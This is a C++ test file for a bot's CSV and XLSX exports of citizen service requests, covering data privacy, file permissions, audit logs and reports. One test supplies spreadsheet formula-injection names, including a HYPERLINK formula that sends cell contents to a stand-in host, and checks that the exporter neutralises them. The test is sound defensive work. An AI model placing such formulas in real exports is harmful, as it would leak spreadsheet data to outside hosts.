#include <doctest/doctest.h>

#include <cstring>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <regex>
#include <sstream>

#include "bot/csv.hpp"
#include "bot/exporter.hpp"
#include "zip_reader.hpp"
#include "handlers/dispatch_fixture.hpp"
#include "storage/audit_log.hpp"
#include "storage/citizen_repository.hpp"
#include "storage/request_repository.hpp"
#include "storage/unit_repository.hpp"

using namespace tannha;
using domain::request_state;
using tannha::test::local;

namespace {

domain::day ymd(int y, unsigned m, unsigned d) {
  return domain::day{std::chrono::year{y} / std::chrono::month{m} / std::chrono::day{d}};
}

// A fixed data set around November 2026 for the unit of the tests (UTC+7):
//  #1 Tư, CT-01: registered 02/11, visit 07/11 (received 08:30), returned 09/11 at home, rated 5
//  #2 Hoa, HT-01: registered 10/11, received 14/11, due 19/11, processing
//  #3 Nam, BHYT-01: registered 12/11, cancelled before any visit
//  #4 Tư, CT-02: registered 28/10 (October), received 07/11 09:30 (served in November)
//  #5 Hoa, CT-01: registered 01/12 (December)
//  #6 Nam, HT-02: registered 20/11, received 01/12 00:30 local (30/11 17:30 UTC: December)
class data_set {
 public:
  explicit data_set(storage::database& db) : db_(db) {
    storage::write_transaction tx(db_);
    storage::citizen_repository citizens(db_);
    auto citizen = [&](std::string name, std::string folded, int year, std::string village, std::string address,
                       std::string phone, std::string categories) {
      storage::citizen_record c;
      c.unit_id = "binhgiang";
      c.full_name = std::move(name);
      c.folded_name = std::move(folded);
      c.birth_year = year;
      c.village = std::move(village);
      c.address = std::move(address);
      c.phone = std::move(phone);
      c.categories = std::move(categories);
      c.notes = "chỉ ở nhà buổi sáng";
      c.approved = true;
      return citizens.insert(c, local(2026, 10, 1));
    };
    auto tu = citizen("Nguyễn Văn Tư", "nguyen van tu", 1938, "Đông Hải", "xóm 3, cạnh nhà văn hoá", "0912345678",
                      "Thương binh, bệnh binh");
    auto hoa = citizen("Lê Thị Hoa", "le thi hoa", 1945, "Tây Sơn", "thôn Tây Sơn", "0987654321",
                       "Người cao tuổi;Neo đơn");
    auto nam = citizen("Phạm Văn Nam", "pham van nam", 1950, "Bắc Hà", "đội 2", "", "Người khuyết tật");

    auto r1 = add(1, tu, "CT-01", local(2026, 11, 2));
    move(r1, request_state::scheduled, local(2026, 11, 3), [](auto& r) {
      r.visit_day = ymd(2026, 11, 7);
      r.visit_time = "08:00";
    });
    move(r1, request_state::processing, local(2026, 11, 7, 8, 30), [](auto& r) {
      r.received_at = local(2026, 11, 7, 8, 30);
      r.due_day = ymd(2026, 11, 9);
      r.dossier_code = "H15.50.05.13-261107-0001";
    });
    move(r1, request_state::result_ready, local(2026, 11, 9, 8), [](auto& r) { r.result_at = local(2026, 11, 9, 8); });
    move(r1, request_state::returned, local(2026, 11, 9, 15), [](auto& r) {
      r.returned_at = local(2026, 11, 9, 15);
      r.return_way = "Tại nhà";
      r.rating = 5;
    });

    auto r2 = add(2, hoa, "HT-01", local(2026, 11, 10));
    move(r2, request_state::scheduled, local(2026, 11, 11), [](auto& r) { r.visit_day = ymd(2026, 11, 14); });
    move(r2, request_state::processing, local(2026, 11, 14, 9), [](auto& r) {
      r.received_at = local(2026, 11, 14, 9);
      r.due_day = ymd(2026, 11, 19);
    });

    auto r3 = add(3, nam, "BHYT-01", local(2026, 11, 12));
    move(r3, request_state::cancelled, local(2026, 11, 13), [](auto&) {});

    auto r4 = add(4, tu, "CT-02", local(2026, 10, 28));
    move(r4, request_state::scheduled, local(2026, 10, 29), [](auto& r) { r.visit_day = ymd(2026, 11, 7); });
    move(r4, request_state::processing, local(2026, 11, 7, 9, 30), [](auto& r) {
      r.received_at = local(2026, 11, 7, 9, 30);
      r.due_day = ymd(2026, 11, 9);
    });

    add(5, hoa, "CT-01", local(2026, 12, 1));

    auto r6 = add(6, nam, "HT-02", local(2026, 11, 20));
    move(r6, request_state::scheduled, local(2026, 11, 21), [](auto& r) { r.visit_day = ymd(2026, 12, 1); });
    move(r6, request_state::processing, local(2026, 12, 1, 0, 30), [](auto& r) {
      r.received_at = local(2026, 12, 1, 0, 30);
      r.due_day = ymd(2026, 12, 4);
    });
    tx.commit();
  }

 private:
  std::int64_t add(std::int64_t number, std::int64_t citizen, const std::string& code, domain::instant at) {
    storage::request_record r;
    r.unit_id = "binhgiang";
    r.number = number;
    r.citizen_id = citizen;
    r.procedure_code = code;
    r.registered_by = "admin-1";
    r.registered_chat = "group-bg";
    r.registered_at = at;
    return storage::request_repository(db_).insert(r, "admin-1", at);
  }
  template <class F>
  void move(std::int64_t id, request_state to, domain::instant at, F change) {
    storage::request_repository repo(db_);
    auto r = *repo.get(id);
    auto from = r.state;
    const auto rating_before = r.rating;
    r.state = to;
    change(r);
    // A new score is a rating event, as /danhgia records it (reports count it when entered).
    storage::event_record ev{0, id, at, "admin-1", from, to, "", std::nullopt};
    if (r.rating != rating_before) ev.rating = r.rating;
    repo.update(r, ev);
  }
  storage::database& db_;
};

struct export_env {
  test::dispatch_fixture fx;
  domain::unit unit = test::demo_unit();
  data_set data{fx.db()};
  domain::period november = *domain::parse_period_key("2026-11");

  bot::sheet build(bot::export_what w, const std::string& key = "2026-11") {
    return bot::build_export(fx.db(), unit, w, *domain::parse_period_key(key));
  }
};

// Excel's serial number of a day (days since 30/12/1899).
long excel_serial(domain::day d) { return (d - ymd(1899, 12, 30)).count(); }

// The cells of an XLSX sheet, read back as text (shared strings resolved).
class xlsx_sheet {
 public:
  explicit xlsx_sheet(const std::string& path) {
    auto zip = test::read_file(path);
    auto sheet = test::zip_member(zip, "xl/worksheets/sheet1.xml");
    auto strings = test::zip_member(zip, "xl/sharedStrings.xml");
    auto styles = test::zip_member(zip, "xl/styles.xml");
    REQUIRE(sheet);
    REQUIRE(strings);
    REQUIRE(styles);
    sheet_xml = *sheet;
    styles_xml = *styles;
    std::regex si(R"(<si><t(?: [^>]*)?>([^<]*)</t></si>)");
    for (std::sregex_iterator it(strings->begin(), strings->end(), si), end; it != end; ++it)
      shared.push_back(unescape((*it)[1]));
  }
  /// The value of a cell ("A1"): its text, its number as written, or "" when absent.
  std::string value(const std::string& ref) const {
    std::regex cell("<c r=\"" + ref + R"("([^>]*)>(?:<f>[^<]*</f>)?<v>([^<]*)</v></c>)");
    std::smatch m;
    if (!std::regex_search(sheet_xml, m, cell)) return "";
    std::string attrs = m[1];
    std::string v = m[2];
    if (attrs.find("t=\"s\"") != std::string::npos) return shared.at(std::stoul(v));
    return v;
  }
  /// The style index of a cell, or -1.
  int style(const std::string& ref) const {
    std::regex cell("<c r=\"" + ref + R"x(" s="(\d+)")x");
    std::smatch m;
    if (!std::regex_search(sheet_xml, m, cell)) return -1;
    return std::stoi(m[1]);
  }
  std::string sheet_xml;
  std::string styles_xml;
  std::vector<std::string> shared;

 private:
  static std::string unescape(std::string s) {
    for (auto [from, to] : {std::pair{"&quot;", "\""}, {"&lt;", "<"}, {"&gt;", ">"}, {"&amp;", "&"}}) {
      for (auto p = s.find(from); p != std::string::npos; p = s.find(from, p + 1)) s.replace(p, std::strlen(from), to);
    }
    return s;
  }
};

const char* requests_csv_nov =
    "\xEF\xBB\xBF"
    "Số hồ sơ,Ngày đăng ký,Họ tên,Năm sinh,Thôn,Đối tượng,Thủ tục,Lĩnh vực,Mã hồ sơ,Trạng thái,Ngày đến nhà,"
    "Ngày tiếp nhận,Hạn trả kết quả,Ngày trả kết quả,Cách trả,Đánh giá\r\n"
    // A category holding a comma is quoted; several categories are joined with "; ".
    "1,02/11/2026,Nguyễn Văn Tư,1938,Đông Hải,\"Thương binh, bệnh binh\",Chứng thực chữ ký,Chứng thực,"
    "H15.50.05.13-261107-0001,Đã trả kết quả,07/11/2026,07/11/2026,09/11/2026,09/11/2026,Tại nhà,5\r\n"
    "2,10/11/2026,Lê Thị Hoa,1945,Tây Sơn,Người cao tuổi; Neo đơn,Đăng ký khai sinh,Hộ tịch,,Đang giải quyết,"
    "14/11/2026,14/11/2026,19/11/2026,,,\r\n"
    "3,12/11/2026,Phạm Văn Nam,1950,Bắc Hà,Người khuyết tật,Cấp thẻ bảo hiểm y tế,Bảo hiểm y tế,,Đã hủy,,,,,,\r\n"
    "6,20/11/2026,Phạm Văn Nam,1950,Bắc Hà,Người khuyết tật,Đăng ký khai tử,Hộ tịch,,Đang giải quyết,01/12/2026,"
    "01/12/2026,04/12/2026,,,\r\n";

const char* served_csv_nov =
    "\xEF\xBB\xBF"
    "STT,Họ tên,Thôn,Thủ tục,Ngày phục vụ\r\n"
    "1,Nguyễn Văn Tư,Đông Hải,Chứng thực chữ ký,07/11/2026\r\n"
    "2,Nguyễn Văn Tư,Đông Hải,Chứng thực bản sao từ bản chính,07/11/2026\r\n"
    "3,Lê Thị Hoa,Tây Sơn,Đăng ký khai sinh,14/11/2026\r\n";

// A config file for the CLI tests, pointing at the fixture's database.
std::string write_config(const test::temp_dir& dir, const std::string& db_path) {
  auto path = dir.file("config.toml");
  std::ofstream(path) << "[platform]\nkind = \"console\"\nwebhook_secret = \"bi-mat\"\n[storage]\npath = \"" << db_path
                      << "\"\n[[units]]\nid = \"binhgiang\"\nname = \"Xã Bình Giang\"\nchat_id = \"group-bg\"\n"
                         "admins = [\"admin-1\"]\nvillages = [\"Đông Hải\", \"Tây Sơn\", \"Bắc Hà\", \"Nam Hưng\"]\n"
                         "[catalog]\npath = \"catalog.toml\"\n";
  std::ofstream(dir.file("catalog.toml"))
      << "[[procedure]]\ncode = \"CT-01\"\nname = \"Chứng thực chữ ký\"\nfield = \"Chứng thực\"\n"
         "processing_days = 1\naliases = [\"ký chứng thực\"]\n";
  return path;
}

}  // namespace

TEST_CASE("export: requests CSV is UTF-8 with BOM, Vietnamese headers and the month's requests") {
  export_env env;
  auto csv = bot::to_csv(env.build(bot::export_what::requests));
  CHECK(csv.starts_with("\xEF\xBB\xBF"));
  CHECK(csv == requests_csv_nov);
  // It reads back as the same table.
  auto back = bot::parse_csv(csv);
  REQUIRE(back);
  CHECK(back->records.size() == 5);
}

TEST_CASE("export: values with commas, quotes and line breaks are quoted (RFC 4180)") {
  bot::sheet s;
  s.columns = {{"Họ tên"}, {"Ghi chú"}};
  s.rows.push_back({{std::string("Tư, \"bác\""), std::string("dòng 1\ndòng 2")}});
  CHECK(bot::to_csv(s) == "\xEF\xBB\xBFHọ tên,Ghi chú\r\n\"Tư, \"\"bác\"\"\",\"dòng 1\ndòng 2\"\r\n");
}

TEST_CASE("export: served lists name, village, procedure and the day of the visit, nothing sensitive") {
  export_env env;
  auto csv = bot::to_csv(env.build(bot::export_what::served));
  CHECK(csv == served_csv_nov);
  for (const char* secret : {"0912", "345678", "0987654321", "Thương binh", "cao tuổi", "Neo đơn", "khuyết tật",
                             "1938", "1945", "xóm 3", "thôn Tây Sơn", "buổi sáng", "Tại nhà"}) {
    CAPTURE(secret);
    CHECK(csv.find(secret) == std::string::npos);
  }
  // Local days decide the period: the visit at 00:30 on 01/12 belongs to December.
  auto dec = bot::to_csv(env.build(bot::export_what::served, "2026-12"));
  CHECK(dec.find("Phạm Văn Nam,Bắc Hà,Đăng ký khai tử,01/12/2026") != std::string::npos);
  CHECK(dec.find("Chứng thực chữ ký") == std::string::npos);
}

TEST_CASE("export: served XLSX carries no phone number or category either") {
  export_env env;
  test::temp_dir dir;
  auto path = dir.file("served.xlsx");
  REQUIRE(bot::write_xlsx(env.build(bot::export_what::served), path));
  xlsx_sheet x(path);
  CHECK(x.value("B2") == "Nguyễn Văn Tư");
  for (const auto& s : x.shared) {
    CAPTURE(s);
    CHECK(s.find("0912") == std::string::npos);
    CHECK(s.find("Thương binh") == std::string::npos);
    CHECK(s.find("Người cao tuổi") == std::string::npos);
  }
  CHECK(x.sheet_xml.find("0912345678") == std::string::npos);
}

TEST_CASE("export: requests XLSX has a bold filled frozen header, widths, real dates and a totals row") {
  export_env env;
  test::temp_dir dir;
  auto path = dir.file("requests.xlsx");
  auto sheet = env.build(bot::export_what::requests);
  REQUIRE(bot::write_xlsx(sheet, path));
  xlsx_sheet x(path);

  // Header row.
  CHECK(x.value("A1") == "Số hồ sơ");
  CHECK(x.value("B1") == "Ngày đăng ký");
  CHECK(x.value("P1") == "Đánh giá");
  CHECK(x.styles_xml.find("<b/>") != std::string::npos);
  CHECK(x.styles_xml.find("FFDDEBF7") != std::string::npos);
  CHECK(x.sheet_xml.find("state=\"frozen\"") != std::string::npos);
  CHECK(x.sheet_xml.find("ySplit=\"1\"") != std::string::npos);
  CHECK(x.sheet_xml.find("<col min=\"3\" max=\"3\" width=\"26.") != std::string::npos);
  CHECK(x.sheet_xml.find("<autoFilter ref=\"A1:P5\"/>") != std::string::npos);

  // Data rows: numbers as numbers, dates as date serials with the dd/mm/yyyy format.
  CHECK(x.value("A2") == "1");
  CHECK(x.value("C2") == "Nguyễn Văn Tư");
  CHECK(x.value("D2") == "1938");  // a number, not text
  CHECK(x.value("I2") == "H15.50.05.13-261107-0001");
  CHECK(x.value("J2") == "Đã trả kết quả");
  CHECK(x.value("B2") == std::to_string(excel_serial(ymd(2026, 11, 2))));
  CHECK(x.value("N2") == std::to_string(excel_serial(ymd(2026, 11, 9))));
  CHECK(x.value("P2") == "5");
  CHECK(x.value("A5") == "6");
  CHECK(x.value("M5") == std::to_string(excel_serial(ymd(2026, 12, 4))));
  CHECK(x.value("N3") == "");
  CHECK(x.styles_xml.find("formatCode=\"dd/mm/yyyy\"") != std::string::npos);
  CHECK(x.style("B2") > 0);
  CHECK(x.style("B2") == x.style("M5"));

  // Totals row right under the data.
  CHECK(x.value("A6") == "Tổng cộng");
  CHECK(x.value("C6") == "4 hồ sơ");
  CHECK(x.value("P6") == "5");
  CHECK(x.style("A6") != x.style("A2"));
}

TEST_CASE("export: the report carries the figures of the period") {
  export_env env;
  auto s = env.build(bot::export_what::report);
  auto csv = bot::to_csv(s);
  CHECK(csv.starts_with("\xEF\xBB\xBFMục,Chỉ tiêu,Số liệu,Đã trả kết quả\r\n"));
  CHECK(csv.find("Kỳ báo cáo,Từ ngày,01/11/2026,") != std::string::npos);
  CHECK(csv.find("Kỳ báo cáo,Đến ngày,30/11/2026,") != std::string::npos);
  CHECK(csv.find("Hồ sơ trong kỳ,Đăng ký mới,4,") != std::string::npos);
  CHECK(csv.find("Hồ sơ trong kỳ,Đã trả kết quả,1,") != std::string::npos);
  CHECK(csv.find("Hồ sơ trong kỳ,Đã hủy,1,") != std::string::npos);
  CHECK(csv.find("Chất lượng,Mức hài lòng trung bình (1–5),5.0,") != std::string::npos);
  CHECK(csv.find("Theo thôn,Đông Hải,1,1") != std::string::npos);
  CHECK(csv.find("Theo thôn,Cộng,4,1") != std::string::npos);
  // No one's name in the figures.
  CHECK(csv.find("Nguyễn Văn Tư") == std::string::npos);

  test::temp_dir dir;
  REQUIRE(bot::write_xlsx(s, dir.file("report.xlsx")));
  xlsx_sheet x(dir.file("report.xlsx"));
  CHECK(x.value("B4") == "Từ ngày");
  CHECK(x.value("C4") == std::to_string(excel_serial(ymd(2026, 11, 1))));
}

TEST_CASE("export: the CLI names an unknown unit or a bad period and exits 2; requests exports are audited") {
  export_env env;
  test::temp_dir dir;
  auto cfg = bot::load_config(write_config(dir, env.fx.db().db().getFilename()));
  if (!cfg) FAIL(cfg.error().message);
  std::ostringstream err;
  std::ostringstream out;
  auto* old_err = std::cerr.rdbuf(err.rdbuf());
  auto* old_out = std::cout.rdbuf(out.rdbuf());
  auto run = [&](const std::string& unit, const std::string& period, const std::string& what,
                 const std::string& format, const std::string& file) {
    return bot::run_export(*cfg, bot::clock(local(2026, 12, 2)), unit, period, what, format, dir.file(file),
                           "cli:test");
  };
  int bad_unit = run("tayhieu", "2026-11", "requests", "csv", "a.csv");
  int bad_period = run("binhgiang", "2026-13", "requests", "csv", "a.csv");
  int bad_week = run("binhgiang", "2026-W54", "requests", "csv", "a.csv");
  int bad_what = run("binhgiang", "2026-11", "people", "csv", "a.csv");
  int bad_format = run("binhgiang", "2026-11", "requests", "pdf", "a.csv");
  {
    std::ofstream existing(dir.file("r.csv"));  // an older export left readable by all
    existing << "old\n";
  }
  std::filesystem::permissions(dir.file("r.csv"), std::filesystem::perms::owner_read |
                                                      std::filesystem::perms::owner_write |
                                                      std::filesystem::perms::group_read |
                                                      std::filesystem::perms::others_read);
  int ok = run("binhgiang", "2026-11", "requests", "csv", "r.csv");
  int ok_xlsx = run("binhgiang", "2026-Q4", "served", "xlsx", "s.xlsx");
  int ok_report = run("binhgiang", "2026-W46", "report", "csv", "w.csv");
  std::cerr.rdbuf(old_err);
  std::cout.rdbuf(old_out);
  CHECK(bad_unit == 2);
  CHECK(err.str().find("unknown unit 'tayhieu'") != std::string::npos);
  CHECK(bad_period == 2);
  CHECK(err.str().find("bad period '2026-13'") != std::string::npos);
  CHECK(bad_week == 2);
  CHECK(err.str().find("bad period '2026-W54'") != std::string::npos);
  CHECK(bad_what == 2);
  CHECK(err.str().find("'people'") != std::string::npos);
  CHECK(bad_format == 2);
  CHECK(err.str().find("'pdf'") != std::string::npos);
  CHECK_FALSE(std::filesystem::exists(dir.file("a.csv")));

  CHECK(ok == 0);
  CHECK(test::read_file(dir.file("r.csv")) == requests_csv_nov);
  // Personal data: owner-only files, whatever the umask.
  using std::filesystem::perms;
  auto others = perms::group_all | perms::others_all;
  CHECK((std::filesystem::status(dir.file("r.csv")).permissions() & others) == perms::none);
  CHECK((std::filesystem::status(dir.file("s.xlsx")).permissions() & others) == perms::none);
  CHECK(ok_xlsx == 0);
  CHECK(xlsx_sheet(dir.file("s.xlsx")).value("D5") == "Đăng ký khai tử");  // Q4 holds December too
  CHECK(ok_report == 0);
  CHECK(out.str().find("exported 4 row(s) of requests for unit binhgiang") != std::string::npos);

  SQLite::Statement q(env.fx.db().db(), "SELECT actor, action, detail FROM audit ORDER BY id");
  std::vector<std::string> entries;
  while (q.executeStep())
    entries.push_back(q.getColumn(0).getString() + " " + q.getColumn(1).getString() + " " + q.getColumn(2).getString());
  REQUIRE(entries.size() == 2);  // the report holds no personal data
  CHECK(entries[0].starts_with("cli:test export_requests period=2026-11 format=csv rows=4"));
  CHECK(entries[1].starts_with("cli:test export_served period=2026-Q4 format=xlsx rows=4"));
}

TEST_CASE("export: names typed as formulas are exported as text, in CSV with a quote, in XLSX as Text cells") {
  test::dispatch_fixture fx;
  auto form = [](const std::string& name, const std::string& phone) {
    return "/dangky\nHọ tên: " + name + "\nNăm sinh: 1950\nThôn: Đông Hải\nĐịa chỉ: xóm 1\nSĐT: " + phone +
           "\nĐối tượng: khuyết tật\nThủ tục: chứng thực chữ ký";
  };
  // (No ';' in them: the form reads it as a field separator.)
  const std::vector<std::string> names = {"=HYPERLINK(\"http://x.invalid/?\"&A1,\"Mở\")", "+Lan 1+1",
                                          "-2+3 Hoa", "@SUM(1,2)"};
  for (std::size_t i = 0; i < names.size(); ++i) {
    CAPTURE(names[i]);
    // The phone typed in the international form, "+84…", on the way in.
    REQUIRE(fx.group("admin-1", form(names[i], "+84 912 345 67" + std::to_string(i)), local(2026, 11, 25, 10 + i)) ==
            handlers::dispatch_outcome::processed);
    // A name without diacritics is asked about once (issue 14, item 12); "đúng" keeps it as typed.
    fx.group("admin-1", "đúng", local(2026, 11, 25, 10 + i, 1));
  }
  fx.take();

  test::temp_dir dir;
  auto cfg = bot::load_config(write_config(dir, fx.db().db().getFilename()));
  if (!cfg) FAIL(cfg.error().message);
  std::ostringstream out;
  auto* old_out = std::cout.rdbuf(out.rdbuf());
  auto run = [&](const std::string& format, const std::string& file) {
    return bot::run_export(*cfg, bot::clock(local(2026, 12, 2)), "binhgiang", "2026-11", "requests", format,
                           dir.file(file), "cli:test");
  };
  int csv_rc = run("csv", "r.csv");
  int xlsx_rc = run("xlsx", "r.xlsx");
  std::cout.rdbuf(old_out);
  REQUIRE(csv_rc == 0);
  REQUIRE(xlsx_rc == 0);

  // CSV: each such cell begins with a quote (RFC 4180 quoting around it where it holds one).
  auto csv = test::read_file(dir.file("r.csv"));
  CHECK(csv.find(",\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"Mở\"\")\",") != std::string::npos);
  CHECK(csv.find(",'+Lan 1+1,") != std::string::npos);
  CHECK(csv.find(",'-2+3 Hoa,") != std::string::npos);
  CHECK(csv.find(",\"'@SUM(1,2)\",") != std::string::npos);
  // No cell of the file begins with a formula character.
  auto back = bot::parse_csv(csv);
  REQUIRE(back);
  REQUIRE(back->records.size() == 5);
  for (const auto& rec : back->records) {
    for (const auto& field : rec.fields) {
      CAPTURE(field);
      CHECK_FALSE(bot::read_as_formula(field));
    }
  }
  // The phone is not in the requests export at all.
  CHECK(csv.find("91234567") == std::string::npos);

  // XLSX: the names are string cells holding exactly what was typed, no formula anywhere, and
  // their style has the Text number format (49 is "@").
  xlsx_sheet x(dir.file("r.xlsx"));
  CHECK(x.sheet_xml.find("<f>") == std::string::npos);
  CHECK(x.value("C1") == "Họ tên");
  std::vector<std::string> cells;
  for (int row = 2; row <= 5; ++row) {
    auto ref = "C" + std::to_string(row);
    cells.push_back(x.value(ref));
    CHECK(x.sheet_xml.find("<c r=\"" + ref + "\" s=\"") != std::string::npos);
    CHECK(x.sheet_xml.find("<c r=\"" + ref + "\" s=\"" + std::to_string(x.style(ref)) + "\" t=\"s\">") !=
          std::string::npos);
  }
  std::sort(cells.begin(), cells.end());
  auto expected = names;
  std::sort(expected.begin(), expected.end());
  CHECK(cells == expected);
  CHECK(x.styles_xml.find("numFmtId=\"49\"") != std::string::npos);
  // An ordinary name keeps the plain style.
  CHECK(x.style("J2") == -1);
}

TEST_CASE("export: the formula rule is OWASP's: =, +, -, @, tab and carriage return at the start") {
  for (const char* v : {"=1+1", "+84912345678", "-1", "@x", "\tx", "\rx"}) {
    CAPTURE(v);
    CHECK(bot::read_as_formula(v));
    CHECK(bot::csv_text_cell(v) == std::string("'") + v);
  }
  for (const char* v : {"", "Nguyễn Văn Tư", "1+1", " =1", "'=1", "a=b", "0912-345"}) {
    CAPTURE(v);
    CHECK_FALSE(bot::read_as_formula(v));
    CHECK(bot::csv_text_cell(v) == v);
  }
  // Numbers and dates are the program's own and stay numbers; only text is guarded.
  bot::sheet s;
  s.columns = {{"a"}, {"b"}, {"c"}};
  s.rows.push_back({{std::int64_t{-3}, std::string("-3"), std::string("\t=x")}});
  CHECK(bot::to_csv(s) == "\xEF\xBB\xBF" "a,b,c\r\n-3,'-3,'\t=x\r\n");
}
